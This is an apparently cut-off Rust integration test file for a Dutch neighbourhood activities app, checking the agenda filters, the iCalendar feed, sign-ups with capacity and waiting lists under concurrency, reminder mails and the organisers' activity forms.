//! Activities end to end, on SQLite and PostgreSQL: the agenda and calendar files (checked with
//! a standard iCalendar parser), registration with capacity and waiting list (also under 200
//! concurrent sign-ups), mails through a real SMTP server, reminders sent once, organisers'
//! pages, feedback with small-cell suppression, and the API.

use axum::http::StatusCode;
use kansrijk_activities::model::{
    local_to_utc, AgeGroup, Answer, Kind, NewActivity, NewFeedback, NewRegistration, RegStatus,
};
use kansrijk_activities::queries::{self, NewVenue, Registered};
use kansrijk_kernel::authz::Role;
use kansrijk_kernel::config::{Config, DatabaseUrl};
use kansrijk_kernel::db::{kernel_migrations, now, Db, PoolSettings};
use kansrijk_kernel::i18n::{kernel_locales, Lang};
use kansrijk_kernel::jobs::NoPayload;
use kansrijk_kernel::testing::db_test;
use kansrijk_kernel::testing::{
    create_person, location, Browser, MailSink, TestApp, TestDb, TestResponse,
};
use kansrijk_programme::model::Pillar;

const PASSWORD: &str = "paars fietsje zingt op dinsdag";

async fn migrate(t: &TestDb) {
    t.db.migrate(&[
        kernel_migrations(),
        kansrijk_programme::migrations(),
        kansrijk_activities::migrations(),
    ])
    .await
    .unwrap();
    kansrijk_kernel::areas::import_geojson(&t.db, kansrijk_kernel::areas::LIENDERT_GEOJSON)
        .await
        .unwrap();
    kansrijk_programme::seed::apply(&t.db, kansrijk_programme::seed::LIENDERT)
        .await
        .unwrap();
}

fn app_with(db: Db, config: Config) -> TestApp {
    TestApp::with_config(
        db,
        config,
        vec![
            kansrijk_programme::feature(),
            kansrijk_activities::feature(),
        ],
    )
}

async fn app(t: &TestDb, config: Config) -> TestApp {
    migrate(t).await;
    app_with(t.db.clone(), config)
}

async fn venue(db: &Db) -> i64 {
    let buurt = queries::buurten(db).await.unwrap()[0].0;
    queries::upsert_venue(
        db,
        &NewVenue {
            name: "Huis van de Wijk Liendert".into(),
            address: "Huis van de Wijk, Liendert".into(),
            area_id: Some(buurt),
            opening_hours: "Overdag".into(),
            route: "Bus tot in de wijk.".into(),
            step_free: true,
            hearing_loop: true,
            ..Default::default()
        },
    )
    .await
    .unwrap()
    .expect("a new venue")
}

fn activity(venue: i64, title: &str, start: i64, capacity: Option<i64>) -> NewActivity {
    NewActivity {
        texts: vec![(
            Lang::Nl,
            title.into(),
            "Samen kijken en praten.\n\nThee staat klaar.".into(),
        )],
        kind: Kind::FilmConversation,
        pillars: vec![Pillar::Diversity],
        approach_id: None,
        venue_id: Some(venue),
        online_url: None,
        starts_at: start,
        ends_at: start + 7200,
        repeat_weeks: 0,
        repeat_count: 1,
        organisation_id: None,
        contact_name: "Team Huis van de Wijk".into(),
        languages: vec!["nl".into(), "tr".into()],
        cost_cents: 0,
        age_group: AgeGroup::Adults,
        capacity,
        registration_required: true,
    }
}

async fn create(db: &Db, a: &NewActivity) -> i64 {
    queries::create_activity(db, a).await.unwrap()[0]
}

fn signup(name: &str, email: Option<&str>, people: i64, key: &str) -> NewRegistration {
    NewRegistration {
        name: name.into(),
        email: email.map(String::from),
        phone: None,
        people,
        interpreter: false,
        interpreter_lang: String::new(),
        sign_language: false,
        wheelchair: false,
        childcare: false,
        other_needs: String::new(),
        idempotency_key: key.into(),
    }
}

fn form_key(body: &str) -> String {
    let i = body
        .find("name=\"key\" value=\"")
        .expect("idempotency key in the form")
        + 18;
    body[i..i + body[i..].find('"').unwrap()].to_string()
}

async fn count(db: &Db, sql: &str) -> i64 {
    sqlx::query_scalar(sql).fetch_one(&db.pool).await.unwrap()
}

#[db_test]
async fn the_agenda_filters_and_the_activity_page_shows_everything(t: TestDb) {
    let app = app(&t, Config::default()).await;
    let v = venue(&t.db).await;
    let soon = now() + 3 * 86400;
    let film = create(&t.db, &activity(v, "Film en gesprek", soon, Some(40))).await;
    let mut workshop = activity(v, "Workshop gevoelens", soon + 86400, None);
    workshop.kind = Kind::Workshop;
    workshop.cost_cents = 350;
    workshop.languages = vec!["ar".into()];
    create(&t.db, &workshop).await;
    let list = app.get("/activiteiten").await;
    assert_eq!(list.status, StatusCode::OK);
    assert!(list.body.contains("<h1>Activiteiten in de wijk</h1>"));
    assert!(list.body.contains("Film en gesprek") && list.body.contains("Workshop gevoelens"));
    assert!(list
        .body
        .contains(r#"<label class="kr-form-label" for="f-soort">Soort</label>"#));
    let film_link = format!(r#"href="/activiteiten/{film}">"#);
    let films = app.get("/activiteiten?soort=film_conversation").await.body;
    assert!(films.contains(&film_link) && !films.contains("Workshop gevoelens"));
    let free = app.get("/activiteiten?gratis=1").await.body;
    assert!(free.contains(&film_link) && !free.contains("Workshop gevoelens"));
    let arabic = app.get("/activiteiten?taal=ar").await.body;
    assert!(!arabic.contains(&film_link) && arabic.contains("Workshop gevoelens"));
    assert!(
        arabic.contains(r#"href="/activiteiten.ics?taal=ar""#),
        "the feed keeps the filters"
    );
    let page = app.get(&format!("/activiteiten/{film}")).await;
    assert_eq!(page.status, StatusCode::OK);
    for text in [
        "<h1>Film en gesprek</h1>",
        "Huis van de Wijk, Liendert",
        "Bus tot in de wijk.",
        "Ringleiding",
        "Nog 40 plaatsen vrij",
        "Gratis",
        "Team Huis van de Wijk",
        "Türkçe",
        "Omgaan met diversiteit",
        ".ics\">Zet in je kalender",
        r#"name="consent""#,
    ] {
        assert!(page.body.contains(text), "{text}");
    }
    let en = app.get(&format!("/activiteiten/{film}?lang=en")).await.body;
    assert!(
        en.contains(r#"<div class="kr-page-header" lang="nl" dir="ltr">"#),
        "untranslated text falls back to Dutch, marked"
    );
    assert_eq!(
        app.get("/activiteiten/999999").await.status,
        StatusCode::NOT_FOUND
    );
    assert_eq!(
        app.get("/activiteiten/abc").await.status,
        StatusCode::NOT_FOUND
    );
    let month = app
        .get(&format!("/activiteiten/maand?jaar={}&maand={}", 2026, 12))
        .await;
    assert_eq!(month.status, StatusCode::OK);
    assert!(month.body.contains("<h1>december 2026</h1>"));
    assert!(
        month.body.contains("/activiteiten/maand?jaar=2027&") && month.body.contains("maand=11\"")
    );
    assert_eq!(
        app.get("/activiteiten/maand?jaar=2026&maand=13")
            .await
            .status,
        StatusCode::NOT_FOUND
    );
    // Spoken languages are named in the reader's language, with their own name beside it.
    let en = app.get("/activiteiten?lang=en&talen=1").await.body;
    assert!(en.contains(">Turkish (Türkçe)</option>"), "{en}");
    assert!(en.contains(">Sign Language of the Netherlands (Nederlandse Gebarentaal)</option>"));
    let nl = app.get("/activiteiten?talen=1").await.body;
    assert!(
        nl.contains(">Turks (Türkçe)</option>") && nl.contains(">Nederlandse Gebarentaal</option>")
    );
}

/// Parses a calendar with Python's `icalendar` (a standard RFC 5545 implementation) and returns
/// one line per event: summary | TZID | local start | UTC start | description.
fn parse_with_icalendar(ics: &str) -> Vec<String> {
    let path = std::env::temp_dir().join(format!("kansrijk-{}.ics", rand_suffix()));
    std::fs::write(&path, ics).unwrap();
    let script = r#"
import sys, datetime
from icalendar import Calendar
cal = Calendar.from_ical(open(sys.argv[1], 'rb').read())
assert cal.walk('VTIMEZONE')[0]['TZID'] == 'Europe/Amsterdam'
for ev in cal.walk('VEVENT'):
    start = ev.decoded('DTSTART')
    print('|'.join([str(ev['SUMMARY']), ev['DTSTART'].params['TZID'], start.strftime('%Y-%m-%d %H:%M'),
        start.astimezone(datetime.timezone.utc).strftime('%Y-%m-%dT%H:%MZ'), str(ev.get('DESCRIPTION', '')).replace('\n', '\\n')]))
"#;
    let out = std::process::Command::new("python3")
        .args(["-c", script])
        .arg(&path)
        .output()
        .expect("python3 with icalendar (pip install icalendar)");
    let _ = std::fs::remove_file(&path);
    assert!(
        out.status.success(),
        "icalendar could not parse the feed: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8(out.stdout)
        .unwrap()
        .lines()
        .map(String::from)
        .collect()
}

fn rand_suffix() -> u64 {
    std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_nanos() as u64
}

#[db_test]
async fn the_calendar_feed_is_valid_icalendar_with_local_times_across_summer_time(t: TestDb) {
    let app = app(&t, Config::default()).await;
    let v = venue(&t.db).await;
    let winter = local_to_utc("2026-12-15", "19:30").unwrap();
    let summer = local_to_utc("2027-07-06", "19:30").unwrap();
    let mut w = activity(v, "Film, gesprek; thee\\koffie", winter, Some(10));
    w.texts[0].2 = format!(
        "Regel één.\nRegel twee, met ; en \\. {}",
        "Lange tekst in het Nederlands. ".repeat(6)
    );
    create(&t.db, &w).await;
    create(&t.db, &activity(v, "Zomeravond", summer, Some(10))).await;
    let feed = app.get("/activiteiten.ics?datum=2026-12-01").await;
    assert_eq!(feed.status, StatusCode::OK);
    assert_eq!(feed.header("content-type"), "text/calendar; charset=utf-8");
    assert!(
        feed.body.starts_with("BEGIN:VCALENDAR\r\n") && feed.body.ends_with("END:VCALENDAR\r\n")
    );
    assert!(
        feed.body.split("\r\n").all(|line| line.len() <= 75),
        "folded at 75 octets"
    );
    assert!(feed
        .body
        .contains("SUMMARY:Film\\, gesprek\\; thee\\\\koffie\r\n"));
    let events = parse_with_icalendar(&feed.body);
    assert_eq!(events.len(), 2, "{events:?}");
    let w: Vec<&str> = events[0].split('|').collect();
    assert_eq!(
        &w[..4],
        [
            "Film, gesprek; thee\\koffie",
            "Europe/Amsterdam",
            "2026-12-15 19:30",
            "2026-12-15T18:30Z"
        ]
    );
    assert!(
        w[4].starts_with("Regel één.\\nRegel twee, met ; en \\. Lange tekst"),
        "{}",
        w[4]
    );
    let s: Vec<&str> = events[1].split('|').collect();
    assert_eq!(
        &s[..4],
        [
            "Zomeravond",
            "Europe/Amsterdam",
            "2027-07-06 19:30",
            "2027-07-06T17:30Z"
        ]
    );
    // One activity as a calendar file.
    let list = queries::activities(
        &t.db,
        Lang::Nl,
        &queries::Filter {
            from: Some(summer - 1),
            ..Default::default()
        },
        10,
    )
    .await
    .unwrap();
    let one = app.get(&format!("/activiteiten/{}.ics", list[0].id)).await;
    assert_eq!(one.status, StatusCode::OK);
    assert_eq!(parse_with_icalendar(&one.body).len(), 1);
}

#[db_test]
async fn a_resident_signs_up_without_an_account_and_gets_a_mail_with_a_personal_link(t: TestDb) {
    let sink = MailSink::start();
    let app = app(&t, sink.config()).await;
    let v = venue(&t.db).await;
    let id = create(
        &t.db,
        &activity(v, "Film en gesprek", now() + 5 * 86400, Some(10)),
    )
    .await;
    let mut b = Browser::new(&app);
    let page = b.get(&format!("/activiteiten/{id}")).await;
    let key = form_key(&page.body);
    // Missing fields: the form comes back with messages beside the fields and the input kept.
    let bad = b
        .post(
            &format!("/activiteiten/{id}/aanmelden"),
            &[
                ("key", &key),
                ("name", "Ayşe <b>"),
                ("people", "12"),
                ("email", "geen-adres"),
            ],
        )
        .await;
    assert_eq!(bad.status, StatusCode::OK);
    assert!(bad.body.contains("Kies een aantal van 1 tot en met 10."));
    assert!(bad.body.contains("Dit e-mailadres klopt niet."));
    assert!(bad.body.contains("Zet een vinkje"));
    assert!(
        bad.body.contains(r#"value="Ayşe &#60;b&#62;""#)
            || bad.body.contains(r#"value="Ayşe &lt;b&gt;""#),
        "input kept, escaped"
    );
    assert!(bad.body.contains(r#"aria-invalid="true""#));
    let fields = [
        ("key", key.as_str()),
        ("name", "A.Y."),
        ("email", "ayse@example.nl"),
        ("people", "2"),
        ("interpreter", "1"),
        ("interpreter_lang", "Turks"),
        ("wheelchair", "1"),
        ("consent", "1"),
    ];
    let ok = b
        .post(&format!("/activiteiten/{id}/aanmelden"), &fields)
        .await;
    assert_eq!(ok.status, StatusCode::SEE_OTHER, "{}", ok.body);
    let personal = location(&ok).to_string();
    assert!(personal.starts_with("/aanmelding/"));
    let mine = b.get(&personal).await;
    assert_eq!(mine.header("cache-control"), "no-store");
    assert!(mine.body.contains("Bedankt! Je bent aangemeld."));
    assert!(mine.body.contains("2 personen"));
    // The same form again (double click, back button): no second registration.
    let again = b
        .post(&format!("/activiteiten/{id}/aanmelden"), &fields)
        .await;
    assert_eq!(again.status, StatusCode::OK);
    assert!(again.body.contains("Je bent al aangemeld"));
    assert_eq!(count(&t.db, "SELECT COUNT(*) FROM registrations").await, 1);
    app.run_jobs().await;
    let mail = &sink.wait_for("ayse@example.nl").await[0];
    assert_eq!(mail.subject, "Je bent aangemeld: Film en gesprek");
    assert!(mail
        .text
        .contains("Huis van de Wijk Liendert, Huis van de Wijk, Liendert"));
    let link = mail.path();
    assert_eq!(
        link.split('?').next().unwrap(),
        personal.split('?').next().unwrap()
    );
    // The token is stored hashed only.
    let token = link.trim_start_matches("/aanmelding/");
    assert_eq!(
        count(
            &t.db,
            &format!("SELECT COUNT(*) FROM registrations WHERE token_hash = '{token}'")
        )
        .await,
        0
    );
    // Cancelling through the personal page.
    let mut b2 = Browser::new(&app);
    b2.get(&link).await;
    let cancelled = b2.post(&link, &[]).await;
    assert!(cancelled.body.contains("Je bent afgemeld."));
    assert_eq!(
        count(
            &t.db,
            "SELECT COUNT(*) FROM registrations WHERE status = 'cancelled'"
        )
        .await,
        1
    );
    app.run_jobs().await;
    for _ in 0..100 {
        if sink.messages().len() >= 2 {
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    }
    assert!(sink
        .messages()
        .iter()
        .any(|m| m.subject == "Je bent afgemeld: Film en gesprek"));
    assert_eq!(
        app.get("/aanmelding/onbekend").await.status,
        StatusCode::NOT_FOUND
    );
}

/// A sign-up reads its activity as it was up to a second ago (`activity_for_sign_up`), so the
/// kept copy can still show a free place or an open activity. The lock in the sign-up's
/// transaction decides: the next one waits, and after a cancellation nobody gets in.
#[db_test]
async fn sign_ups_right_after_the_last_place_or_a_cancellation_wait_or_are_refused(t: TestDb) {
    let app = app(&t, Config::default()).await;
    let v = venue(&t.db).await;
    let id = create(
        &t.db,
        &activity(v, "Buurtlunch", now() + 5 * 86400, Some(1)),
    )
    .await;
    let mut b = Browser::new(&app);
    let path = format!("/activiteiten/{id}");
    let mut answers = vec![];
    for (n, cancel_first) in [(1, false), (2, false), (3, true)] {
        // The form as it was shown: for the last one, before the activity was cancelled.
        let key = form_key(&b.get(&path).await.body);
        if cancel_first {
            assert!(queries::cancel_activity(&t.db, id).await.unwrap());
        }
        let email = format!("buur{n}@example.nl");
        let fields = [
            ("key", key.as_str()),
            ("name", "Buur"),
            ("email", email.as_str()),
            ("people", "1"),
            ("consent", "1"),
        ];
        answers.push(b.post(&format!("{path}/aanmelden"), &fields).await);
    }
    assert_eq!(answers[0].status, StatusCode::SEE_OTHER);
    assert_eq!(answers[1].status, StatusCode::SEE_OTHER);
    let waiting = b.get(location(&answers[1])).await;
    assert!(!waiting.body.contains("Bedankt! Je bent aangemeld."));
    assert_eq!(answers[2].status, StatusCode::OK);
    assert!(answers[2]
        .body
        .contains("Deze activiteit gaat niet door of is al voorbij."));
    let stored: Vec<(String, String)> =
        sqlx::query_as("SELECT email, status FROM registrations ORDER BY id")
            .fetch_all(&t.db.pool)
            .await
            .unwrap();
    assert_eq!(
        stored,
        [
            ("buur1@example.nl".to_string(), "confirmed".to_string()),
            ("buur2@example.nl".to_string(), "waiting".to_string()),
        ]
    );
}

#[db_test]
async fn a_cancellation_promotes_the_waiting_list_in_order_and_mails_them(t: TestDb) {
    let sink = MailSink::start();
    let app = app(&t, sink.config()).await;
    let v = venue(&t.db).await;
    let id = create(&t.db, &activity(v, "Workshop", now() + 5 * 86400, Some(3))).await;
    let reg = |name: &'static str, people, key: &'static str| {
        let db = t.db.clone();
        async move {
            match queries::register(
                &db,
                id,
                &signup(name, Some(&format!("{name}@example.nl")), people, key),
                "nl",
            )
            .await
            .unwrap()
            {
                Registered::New { id, token, status } => (id, token, status),
                other => panic!("{other:?}"),
            }
        }
    };
    let (_, token_a, a) = reg("a", 3, "key-a-0123456789abcdef").await;
    let (b_id, _, b) = reg("b", 2, "key-b-0123456789abcdef").await;
    let (c_id, _, c) = reg("c", 1, "key-c-0123456789abcdef").await;
    let (d_id, _, d) = reg("d", 1, "key-d-0123456789abcdef").await;
    assert_eq!(
        (a, b, c, d),
        (
            RegStatus::Confirmed,
            RegStatus::Waiting,
            RegStatus::Waiting,
            RegStatus::Waiting
        )
    );
    let r = queries::registration_by_token(&t.db, &token_a)
        .await
        .unwrap()
        .unwrap();
    let promoted = queries::cancel_registration(&t.db, r.id)
        .await
        .unwrap()
        .unwrap();
    assert_eq!(
        promoted,
        vec![b_id, c_id],
        "oldest first, as long as they fit"
    );
    assert_eq!(
        queries::cancel_registration(&t.db, r.id).await.unwrap(),
        None,
        "cancelling twice does nothing"
    );
    // The organiser raises the capacity: the next one in line gets a place.
    let mut raised = activity(v, "Workshop", now() + 5 * 86400, Some(4));
    raised.starts_at = queries::activity(&t.db, id, Lang::Nl)
        .await
        .unwrap()
        .unwrap()
        .starts_at;
    raised.ends_at = raised.starts_at + 7200;
    assert_eq!(
        queries::update_activity(&t.db, id, &raised).await.unwrap(),
        vec![d_id]
    );
    let a = queries::activity(&t.db, id, Lang::Nl)
        .await
        .unwrap()
        .unwrap();
    assert_eq!((a.confirmed, a.waiting), (4, 0));
    // Moving the activity a week later moves the pending reminders along.
    raised.starts_at += 7 * 86400;
    raised.ends_at += 7 * 86400;
    queries::update_activity(&t.db, id, &raised).await.unwrap();
    let due: Vec<i64> = sqlx::query_scalar(
        "SELECT run_at FROM jobs WHERE kind = 'activities.reminder' AND status = 'queued'",
    )
    .fetch_all(&t.db.pool)
    .await
    .unwrap();
    assert_eq!(due.len(), 3, "b, c and d");
    assert!(due.iter().all(|r| *r == raised.starts_at - 86400));
    app.run_jobs().await;
    for who in ["b", "c", "d"] {
        let mails = sink.wait_for(&format!("{who}@example.nl")).await;
        assert!(
            mails
                .iter()
                .any(|m| m.subject == "Er is een plaats voor je: Workshop"),
            "{who}: {mails:?}"
        );
    }
    assert!(sink
        .wait_for("a@example.nl")
        .await
        .iter()
        .any(|m| m.subject.starts_with("Je bent afgemeld")));
}

/// A pool that lets hundreds of sign-ups queue for a lock instead of timing out.
fn patient_pool(t: &TestDb) -> Db {
    Db::connect(
        &DatabaseUrl(t.url.clone()),
        &PoolSettings {
            max_connections: 16,
            acquire_timeout: std::time::Duration::from_secs(120),
        },
    )
    .unwrap()
}

#[db_test]
async fn two_hundred_concurrent_sign_ups_for_fifty_places_never_exceed_the_capacity(t: TestDb) {
    migrate(&t).await;
    let db = patient_pool(&t);
    let v = venue(&db).await;
    let id = create(&db, &activity(v, "Festival", now() + 5 * 86400, Some(50))).await;
    // 200 forms and 10 of them sent twice at the same moment (double clicks): the repeats
    // share transactions with their first sending (group commit) and must still find it.
    let mut tasks = vec![];
    for n in 0..210 {
        let db = db.clone();
        tasks.push(tokio::spawn(async move {
            queries::register(
                &db,
                id,
                &signup("x", None, 1, &format!("concurrent-key-{:04}", n % 200)),
                "nl",
            )
            .await
        }));
    }
    let mut outcomes = vec![];
    for task in tasks {
        outcomes.push(task.await.unwrap().unwrap());
    }
    let first_of = |key: usize| match (&outcomes[key], &outcomes[key + 200]) {
        (Registered::New { id, .. }, Registered::Again { id: again, .. })
        | (Registered::Again { id: again, .. }, Registered::New { id, .. }) => (*id, *again),
        other => panic!("form {key} sent twice: {other:?}"),
    };
    for key in 0..10 {
        let (id, again) = first_of(key);
        assert_eq!(id, again, "the repeat of form {key} finds the first");
    }
    let confirmed = outcomes
        .iter()
        .filter(|o| {
            matches!(
                o,
                Registered::New {
                    status: RegStatus::Confirmed,
                    ..
                }
            )
        })
        .count();
    let waiting = outcomes
        .iter()
        .filter(|o| {
            matches!(
                o,
                Registered::New {
                    status: RegStatus::Waiting,
                    ..
                }
            )
        })
        .count();
    assert_eq!((confirmed, waiting), (50, 150));
    assert_eq!(
        count(
            &db,
            "SELECT CAST(SUM(people) AS BIGINT) FROM registrations WHERE status = 'confirmed'"
        )
        .await,
        50
    );
    assert_eq!(
        count(
            &db,
            "SELECT COUNT(*) FROM registrations WHERE status = 'waiting'"
        )
        .await,
        150
    );
    // The same 200 forms again: still 200 registrations.
    let again = queries::register(&db, id, &signup("x", None, 1, "concurrent-key-0007"), "nl")
        .await
        .unwrap();
    assert!(matches!(again, Registered::Again { .. }));
    assert_eq!(count(&db, "SELECT COUNT(*) FROM registrations").await, 200);
}

/// On SQLite sign-ups for different activities share a transaction (one writer, one queue):
/// each activity's capacity still holds, a cancelled activity refuses its own sign-ups only,
/// and a rate limit shared by sign-ups in one transaction lets exactly its maximum through.
#[db_test]
async fn concurrent_sign_ups_spread_over_activities_keep_each_capacity_and_the_limit(t: TestDb) {
    use kansrijk_activities::queries::{register_with_mail, SignUp};
    use kansrijk_kernel::ratelimit::Limit;
    migrate(&t).await;
    let db = patient_pool(&t);
    let v = venue(&db).await;
    let mut open = vec![];
    for (n, capacity) in [3, 4, 5, 6].into_iter().enumerate() {
        let title = format!("Workshop {n}");
        open.push((
            create(&db, &activity(v, &title, now() + 5 * 86400, Some(capacity))).await,
            capacity,
        ));
    }
    let cancelled = create(&db, &activity(v, "Afgelast", now() + 5 * 86400, Some(10))).await;
    assert!(queries::cancel_activity(&db, cancelled).await.unwrap());
    let free = create(&db, &activity(v, "Open huis", now() + 5 * 86400, None)).await;
    // 100 sign-ups, 20 for each activity, interleaved; 10 more, for an activity without a
    // capacity, from one address whose limit is 4.
    let mut tasks = vec![];
    for n in 0..110usize {
        let db = db.clone();
        let target = match n {
            100.. => free,
            _ if n % 5 == 4 => cancelled,
            _ => open[n % 5].0,
        };
        let limit = (n >= 100).then(|| Limit::new("test:spread:one-address", 4, 3600));
        tasks.push(tokio::spawn(async move {
            let sign_up = SignUp {
                registration: signup("x", None, 1, &format!("spread-key-{n:04}")),
                lang: "nl".into(),
                mail: None,
                limit,
            };
            (
                target,
                register_with_mail(&db, target, sign_up).await.unwrap(),
            )
        }));
    }
    let mut outcomes = vec![];
    for task in tasks {
        outcomes.push(task.await.unwrap());
    }
    for (id, capacity) in &open {
        let mine: Vec<&Registered> = outcomes[..100]
            .iter()
            .filter(|(target, _)| target == id)
            .map(|(_, o)| o)
            .collect();
        let status = |s: RegStatus| {
            mine.iter()
                .filter(|o| matches!(o, Registered::New { status, .. } if *status == s))
                .count() as i64
        };
        assert_eq!(
            (status(RegStatus::Confirmed), status(RegStatus::Waiting)),
            (*capacity, 20 - capacity),
            "activity {id}"
        );
        let kept: (i64, i64) =
            sqlx::query_as("SELECT confirmed_people, waiting_count FROM activities WHERE id = $1")
                .bind(id)
                .fetch_one(&db.pool)
                .await
                .unwrap();
        assert_eq!(
            kept,
            (*capacity, 20 - capacity),
            "the counts on activity {id}"
        );
    }
    let closed = outcomes[..100]
        .iter()
        .filter(|(target, o)| *target == cancelled && *o == Registered::Closed)
        .count();
    assert_eq!(
        closed, 20,
        "every sign-up for the cancelled activity, and only those"
    );
    let limited = &outcomes[100..];
    let passed = limited
        .iter()
        .filter(|(_, o)| matches!(o, Registered::New { .. }))
        .count();
    let refused = limited
        .iter()
        .filter(|(_, o)| *o == Registered::TooMany)
        .count();
    assert_eq!((passed, refused), (4, 6));
    assert_eq!(
        count(&db, "SELECT COUNT(*) FROM registrations").await,
        80 + 4,
        "refused and closed sign-ups stored nothing"
    );
}

/// The places taken and the waiting list kept on the activity row (by triggers) always equal
/// what the registrations say: after sign-ups, a cancel that promotes, and deleted rows.
#[db_test]
async fn the_counts_on_the_activity_row_follow_every_change(t: TestDb) {
    migrate(&t).await;
    let db = &t.db;
    let v = venue(db).await;
    let id = create(db, &activity(v, "Film", now() + 5 * 86400, Some(3))).await;
    let kept = |db: Db| async move {
        let kept: (i64, i64) = sqlx::query_as(&format!(
            "SELECT CAST(confirmed_people AS BIGINT), CAST(waiting_count AS BIGINT) FROM activities WHERE id = {id}"
        ))
        .fetch_one(&db.pool)
        .await
        .unwrap();
        let counted = (
            count(&db, &format!("SELECT CAST(COALESCE(SUM(people), 0) AS BIGINT) FROM registrations WHERE activity_id = {id} AND status = 'confirmed'")).await,
            count(&db, &format!("SELECT COUNT(*) FROM registrations WHERE activity_id = {id} AND status = 'waiting'")).await,
        );
        assert_eq!(kept, counted, "kept on the row, counted");
        kept
    };
    let mut ids = vec![];
    for (n, people) in [2, 1, 2, 1].into_iter().enumerate() {
        match queries::register(
            db,
            id,
            &signup("x", None, people, &format!("count-key-{n:04}")),
            "nl",
        )
        .await
        .unwrap()
        {
            Registered::New { id, .. } => ids.push(id),
            other => panic!("{other:?}"),
        }
    }
    assert_eq!(kept(db.clone()).await, (3, 2));
    // The first (2 people) cancels: the next waiting one (2 people) moves up, the last waits on.
    let promoted = queries::cancel_registration(db, ids[0])
        .await
        .unwrap()
        .unwrap();
    assert_eq!(promoted, vec![ids[2]]);
    assert_eq!(kept(db.clone()).await, (3, 1));
    sqlx::query(&format!(
        "DELETE FROM registrations WHERE id IN ({}, {})",
        ids[1], ids[3]
    ))
    .execute(&db.pool)
    .await
    .unwrap();
    assert_eq!(kept(db.clone()).await, (2, 0));
}

#[db_test]
async fn the_reminder_goes_out_once_even_from_two_app_instances(t: TestDb) {
    let sink = MailSink::start();
    let one = app(&t, sink.config()).await;
    let two = app_with(t.db.clone(), sink.config());
    let v = venue(&t.db).await;
    // Starts in two hours: the reminder (a day before) is due at once.
    let id = create(&t.db, &activity(v, "Kinderraad", now() + 7200, Some(20))).await;
    for n in 0..2 {
        queries::register(
            &t.db,
            id,
            &signup(
                "r",
                Some(&format!("r{n}@example.nl")),
                1,
                &format!("reminder-key-{n}-abcdefgh"),
            ),
            "nl",
        )
        .await
        .unwrap();
    }
    queries::register(
        &t.db,
        id,
        &signup("geen mail", None, 1, "reminder-key-none-abcdef"),
        "nl",
    )
    .await
    .unwrap();
    assert_eq!(
        count(
            &t.db,
            "SELECT COUNT(*) FROM jobs WHERE kind = 'activities.reminder'"
        )
        .await,
        2,
        "only for people with an address"
    );
    let (a, b) = tokio::join!(one.run_jobs(), two.run_jobs());
    assert!(a + b >= 2);
    one.run_jobs().await;
    two.run_jobs().await;
    // Both workers are idle, and the sink stores a message before it accepts it: a second
    // reminder would be in the Maildir now, so no waiting is needed to see that there is none.
    assert_eq!(one.run_jobs().await + two.run_jobs().await, 0, "idle");
    for n in 0..2 {
        let to = format!("r{n}@example.nl");
        let reminders: Vec<_> = sink
            .messages()
            .into_iter()
            .filter(|m| m.to == to && m.subject == "Herinnering: Kinderraad")
            .collect();
        assert_eq!(reminders.len(), 1, "{to}");
        assert!(
            reminders[0]
                .text
                .contains(&format!("/activiteiten/{id}/feedback")),
            "the reminder links to the feedback"
        );
    }
    // Running the job itself again sends nothing more (the claim on the registration).
    let reg: i64 = sqlx::query_scalar("SELECT id FROM registrations WHERE email = 'r0@example.nl'")
        .fetch_one(&t.db.pool)
        .await
        .unwrap();
    assert!(!queries::claim_reminder(&t.db, reg).await.unwrap());
}

/// A professional of the Huis van de Wijk (their account's organisation): they act on its
/// activities and venues only.
async fn organiser<'a>(app: &'a TestApp, t: &TestDb) -> Browser<'a> {
    let person = create_person(&t.db, "pro@example.nl", PASSWORD, &[Role::Professional]).await;
    let org = kansrijk_kernel::accounts::queries::create_organisation(
        &t.db,
        "Huis van de Wijk Liendert",
        "welfare",
    )
    .await
    .unwrap();
    sqlx::query("UPDATE users SET organisation_id = $1 WHERE id = $2")
        .bind(org)
        .bind(person)
        .execute(&t.db.pool)
        .await
        .unwrap();
    // The activities and venues the test made so far are the Huis van de Wijk's.
    for table in ["activities", "venues"] {
        sqlx::query(&format!(
            "UPDATE {table} SET organisation_id = $1 WHERE organisation_id IS NULL"
        ))
        .bind(org)
        .execute(&t.db.pool)
        .await
        .unwrap();
    }
    let mut b = Browser::new(app);
    b.get("/inloggen").await;
    let r = b
        .post(
            "/inloggen",
            &[
                ("email", "pro@example.nl"),
                ("password", PASSWORD),
                ("terug", "/beheer/activiteiten"),
            ],
        )
        .await;
    assert_eq!(r.status, StatusCode::SEE_OTHER, "{}", r.body);
    b
}

#[db_test]
async fn an_organiser_creates_a_series_and_validation_keeps_the_input(t: TestDb) {
    let app = app(&t, Config::default()).await;
    let v = venue(&t.db).await;
    let mut b = organiser(&app, &t).await;
    let form = b.get("/beheer/activiteiten/nieuw").await;
    assert_eq!(form.status, StatusCode::OK);
    let venue_id = v.to_string();
    let bad = b
        .post(
            "/beheer/activiteiten/nieuw",
            &[
                ("title", "Kinderraad <b>"),
                ("kind", "childrens_council"),
                ("venue_id", "99999"),
                ("date", "2020-01-01"),
                ("start_time", "15:00"),
                ("end_time", "14:00"),
                ("capacity", "0"),
            ],
        )
        .await;
    assert_eq!(bad.status, StatusCode::OK);
    for message in [
        "Deze locatie kennen we niet.",
        "De eindtijd moet na de begintijd liggen.",
        "Deze datum is al voorbij.",
        "Vul een aantal plaatsen in van 1 tot 10000.",
    ] {
        assert!(bad.body.contains(message), "{message}");
    }
    assert!(
        bad.body.contains("Kinderraad &#60;b&#62;") || bad.body.contains("Kinderraad &lt;b&gt;")
    );
    assert!(bad.body.contains(r#"value="2020-01-01""#));
    let next_year = (jiff::Zoned::now().year() + 1).to_string();
    let date = format!("{next_year}-03-10");
    let ok = b
        .post(
            "/beheer/activiteiten/nieuw",
            &[
                ("title", "Kinderraad"),
                ("description", "Om de twee weken."),
                ("kind", "childrens_council"),
                ("pillars", "tasks_responsibilities"),
                ("pillars", "positive_community"),
                ("venue_id", &venue_id),
                ("date", &date),
                ("start_time", "15:00"),
                ("end_time", "16:00"),
                ("repeat_weeks", "2"),
                ("repeat_count", "3"),
                ("languages", "nl"),
                ("languages", "ar"),
                ("age_group", "children"),
                ("capacity", "2"),
                ("registration_required", "1"),
            ],
        )
        .await;
    assert_eq!(ok.status, StatusCode::SEE_OTHER, "{}", ok.body);
    assert_eq!(
        count(&t.db, "SELECT COUNT(DISTINCT series_id) FROM activities").await,
        1
    );
    assert_eq!(count(&t.db, "SELECT COUNT(*) FROM activities").await, 3);
